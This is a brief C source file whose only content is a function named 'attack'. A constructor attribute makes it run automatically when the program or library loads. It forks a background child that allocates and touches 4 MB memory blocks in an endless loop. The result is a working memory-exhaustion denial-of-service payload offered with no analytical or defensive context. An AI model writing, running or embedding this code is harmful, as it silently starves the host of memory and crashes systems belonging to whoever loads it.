/* Takes memory without end, and touches it. */

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { STEP = 1 << 22 };

__attribute__((constructor)) static void
attack(void)
{
    if (fork() != 0)
        return;
    for (;;) {
        char *more = malloc(STEP);

        if (more)
            memset(more, 'x', STEP);
    }
}
